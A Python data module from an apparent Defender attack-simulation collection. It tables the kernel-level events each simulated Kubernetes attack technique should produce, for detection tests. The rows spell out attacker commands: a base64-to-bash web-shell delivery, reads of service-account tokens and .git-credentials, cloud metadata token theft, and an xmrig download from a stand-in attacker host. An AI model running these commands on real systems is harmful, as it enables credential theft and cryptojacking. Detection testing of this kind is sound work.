# -*- coding: utf-8 -*-
# Copyright: Contributors to the defender.attack_simulation collection
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The signal table: what each technique causes in the victim, as a kernel-level sensor sees it.

One source of truth, beside the catalog (``_catalog.py``): the scenario pages (``docs/scenarios/*.md``, written
by ``tests/render_docs.py``) and the end-to-end tests that compare it with what an eBPF recorder saw in the
sealed cluster both read it. The rows come from Microsoft's scenario scripts (the command lines they run in the
victim, under php-fpm, ``sh -c``, then ``bash`` reading the decoded script from a pipe); the technique scripts in
``roles/techniques/files/`` start exactly these programs, with these arguments, in this order, and may add more.

``SIGNALS`` maps every technique id of the catalog to a list of events, in the order they happen:

``{"event": "exec", "argv": [...]}``
    A program started in the victim.
``{"event": "open", "path": "..."}``
    A file opened in the victim.
``{"event": "connect", "address": "...", "port": N}``
    A connection from the victim; the address is an IP or a name (``kubernetes.default``,
    ``mdc-simulation-attacker``) that the checker resolves inside the cluster.

Matching rules (how an observed event matches a row's event):

- exec: when ``argv[0]`` is absolute, the executed file's path must equal it (``/sbin/modprobe``); otherwise the
  basename of the executed program must equal it. ``argv[1:]`` must appear in the observed ``argv[1:]`` in the
  same order, as a subsequence: additions (a bound such as ``-m 5``) are allowed, replacements are not.
- the web shell's own suffix: a web shell may append its own redirection to the command it hands to ``sh -c``
  (the sealed cluster's ``ws.php`` runs ``shell_exec($cmd . " 2>&1")``): for the ``sh -c`` argument, the row's
  text followed by one of ``WEB_SHELL_SUFFIXES`` matches too.
- placeholders: an element containing ``<name>`` (``"Authorization: Bearer <token>"``) matches an observed
  argument (or path) in which the placeholder stands for any non-empty text; the rest must be equal. ``<name?>``
  may stand for empty text too (a value that a metadata service which did not answer left empty). Tokens and
  other run-specific values are placeholders, never written here.
- open: an observed open or openat of that path. connect: the destination IP and port are equal.
- every matched process descends from the victim's php-fpm (its parent chain), and the event happens within
  the technique's window: the ``started`` and ``finished`` times of its record in the report (UTC, taken on the
  controller, which shares its clock with the cluster's kernel).

``SIGNALS`` lists the events of a cluster where no metadata service answers (the sealed test cluster). Two
techniques take another branch when a cloud's metadata service answers, as Microsoft's scripts do:
``CLOUD_SIGNALS[cloud][technique id]`` lists their events on that cloud (``azure``: an AKS node, whose first token
request fails and whose retry with the kubelet identity's ``msi_res_id`` answers; ``aws``: an EKS node with
IMDSv2; ``gcp``: a GKE node); ``signals(technique_id, cloud)`` picks the right list.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

SERVICE_ACCOUNT_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
IMDS = "169.254.169.254"
ACCESS_REVIEW_BODY = ('{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1",'
                      '"metadata":{"creationTimestamp":null},"spec":{"resourceAttributes":'
                      '{"namespace":"default","verb":"get","resource":"pods"}},"status":{}}')
AZURE_COMPUTE = "http://169.254.169.254/metadata/instance/compute/%s?api-version=2017-08-01&format=text"
AZURE_TOKEN = ("http://169.254.169.254/metadata/identity/oauth2/token"
               "?api-version=2018-02-01&resource=https://management.azure.com")
AZURE_IDENTITY = ("&msi_res_id=/subscriptions/%s/resourcegroups/%s/providers/Microsoft.ManagedIdentity/"
                  "userAssignedIdentities/%s-agentpool")
AWS_CREDENTIALS = "http://169.254.169.254/latest/meta-data/iam/security-credentials"
CLOUDS = ("none", "azure", "aws", "gcp")


def _exec(*argv):
    return {"event": "exec", "argv": list(argv)}


def _open(path):
    return {"event": "open", "path": path}


def _connect(address, port):
    return {"event": "connect", "address": address, "port": port}


WEB_SHELL_SUFFIXES = ("", " 2>&1")

# The web shell runs the delivery command through sh; bash reads the decoded script from base64's pipe.
DELIVERY = [
    _exec("sh", "-c", "echo <b64>| base64 -d| bash"),
    _exec("base64", "-d"),
    _exec("bash"),
]

SIGNALS = {
    "recon.access_review": DELIVERY + [
        _exec("cat", SERVICE_ACCOUNT_TOKEN),
        _open(SERVICE_ACCOUNT_TOKEN),
        _exec("curl", "-s", "-k", "-A", "kubectl", "-H", "Authorization: Bearer <token>",
              "-H", "Content-Type: application/json", "-X", "POST", "-d", ACCESS_REVIEW_BODY,
              "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"),
        _exec("grep", "-Po", '"status":\\{\\K.*?(?=\\})'),
        _connect("kubernetes.default", 443),
    ],
    "recon.network_scan": DELIVERY + [
        _exec("nmap", "-Pn", "--open", "kubernetes.default/24", "-p", "443"),
        _connect("kubernetes.default", 443),
    ],
    "lateral_movement.metadata_token": DELIVERY + [
        _exec("curl", "-s", "-H", "Metadata-Flavor: Google",
              "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
        _exec("grep", "-Po", '"access_token":"\\K.*?(?=")'),
        _exec("curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token",
              "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600"),
        _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "subscriptionId"),
        _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "resourceGroupName"),
        _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "location"),
        # The cluster's name from the node resource group MC_<group>_<cluster>_<location>: empty here, nothing answered.
        _exec("grep", "-Po", "[^_]+(?=_<location?>)"),
        _exec("curl", "-sf", "-H", "Metadata:true", AZURE_TOKEN),
        _exec("curl", "-sf", "-H", "Metadata:true",
              AZURE_TOKEN + AZURE_IDENTITY % ("<subscription?>", "<group?>", "<cluster?>")),
        _exec("grep", "-Po", '"access_token":"\\K.*?(?=")'),
        _connect(IMDS, 80),
    ],
    "secrets.git_credentials": DELIVERY + [
        _exec("find", "/", "-path", "*/.git-credentials"),
        _exec("cat", "<dir>/.git-credentials"),
        _open("<dir>/.git-credentials"),
    ],
    "secrets.service_account_token": DELIVERY + [
        _exec("cat", SERVICE_ACCOUNT_TOKEN),
        _open(SERVICE_ACCOUNT_TOKEN),
        _exec("head", "-c", "30"),
    ],
    "secrets.cloud_secret_env": DELIVERY + [
        _exec("curl", "-sf", "-H", "Metadata-Flavor: Google", "http://169.254.169.254/computeMetadata/v1/",
              "-o", "/dev/null"),
        _exec("curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token",
              "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "-o", "/dev/null"),
        _exec("grep", "AZURE_CREDENTIAL_FILE="),
        _connect(IMDS, 80),
    ],
    "crypto.cpu_optimization": DELIVERY + [
        _exec("/sbin/modprobe", "msr", "allow_writes=on"),
    ],
    "crypto.ld_so_preload": DELIVERY + [
        _exec("touch", "/etc/ld.so.preload"),
    ],
    "crypto.miner_download": DELIVERY + [
        _exec("curl", "-sO", "http://mdc-simulation-attacker/xmrig"),
        _connect("mdc-simulation-attacker", 80),
        _exec("chmod", "+x", "xmrig"),
    ],
    # Started as ./xmrig in the working directory: its basename is what the rule compares.
    "crypto.miner_run": DELIVERY + [
        _exec("xmrig"),
    ],
    # No delivery script: the web shell's only command is whoami, run by sh.
    "webshell.whoami": [
        _exec("sh", "-c", "whoami"),
        _exec("whoami"),
    ],
    "ti_domain.test_domain": DELIVERY + [
        _exec("curl", "-s", "-m", "10", "-X", "POST", "http://mdc-eicar.alerts.security.azure.com?SendingData",
              "-o", "/dev/null"),
    ],
}


_GCP_TOKEN = [
    _exec("curl", "-s", "-H", "Metadata-Flavor: Google",
          "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    _exec("grep", "-Po", '"access_token":"\\K.*?(?=")'),
]
_AWS_SESSION = [_exec("curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token",
                      "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600")]
_GCP_PROBE = [_exec("curl", "-sf", "-H", "Metadata-Flavor: Google", "http://169.254.169.254/computeMetadata/v1/",
                    "-o", "/dev/null")]
_AWS_PROBE = [_exec("curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token",
                    "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "-o", "/dev/null")]
# The token found is printed cut by head -c 30, as the original prints it.
_TOKEN_SHOWN = [_exec("head", "-c", "30"), _connect(IMDS, 80)]

CLOUD_SIGNALS = {
    "none": {},
    "azure": {
        "lateral_movement.metadata_token": DELIVERY + _GCP_TOKEN + _AWS_SESSION + [
            _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "subscriptionId"),
            _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "resourceGroupName"),
            _exec("curl", "-s", "-H", "Metadata:true", "--noproxy", "*", AZURE_COMPUTE % "location"),
            # The cluster's name, from MC_<group>_<cluster>_<location>.
            _exec("grep", "-Po", "[^_]+(?=_<location>)"),
            _exec("curl", "-sf", "-H", "Metadata:true", AZURE_TOKEN),
            _exec("curl", "-sf", "-H", "Metadata:true",
                  AZURE_TOKEN + AZURE_IDENTITY % ("<subscription>", "<group>", "<cluster>")),
            _exec("grep", "-Po", '"access_token":"\\K.*?(?=")'),
        ] + _TOKEN_SHOWN,
        "secrets.cloud_secret_env": DELIVERY + _GCP_PROBE + _AWS_PROBE + [
            _exec("grep", "AZURE_CREDENTIAL_FILE="),
            _connect(IMDS, 80),
        ],
    },
    "aws": {
        "lateral_movement.metadata_token": DELIVERY + _GCP_TOKEN + _AWS_SESSION + [
            _exec("curl", "-s", AWS_CREDENTIALS, "-H", "X-aws-ec2-metadata-token: <session>"),
            _exec("curl", "-s", AWS_CREDENTIALS + "/<role>", "-H", "X-aws-ec2-metadata-token: <session>"),
            _exec("grep", "-Po", '"Token" : "\\K.*?(?=")'),
        ] + _TOKEN_SHOWN,
        "secrets.cloud_secret_env": DELIVERY + _GCP_PROBE + _AWS_PROBE + [
            _exec("grep", "AWS_SECRET_ACCESS_KEY="),
            _connect(IMDS, 80),
        ],
    },
    "gcp": {
        "lateral_movement.metadata_token": DELIVERY + _GCP_TOKEN + _TOKEN_SHOWN,
        "secrets.cloud_secret_env": DELIVERY + _GCP_PROBE + [
            _exec("grep", "GOOGLE_DEFAULT_CLIENT_SECRET="),
            _connect(IMDS, 80),
        ],
    },
}


def signals(technique_id, cloud="none"):
    """The events of one technique when ``cloud``'s metadata service answers (``none``: no service answers);
    KeyError names an unknown id or cloud."""
    if cloud not in CLOUD_SIGNALS:
        raise KeyError("no signal rows for cloud %r (known: %s)" % (cloud, ", ".join(CLOUDS)))
    try:
        return CLOUD_SIGNALS[cloud].get(technique_id) or SIGNALS[technique_id]
    except KeyError:
        raise KeyError("no signal row for technique %r" % technique_id)
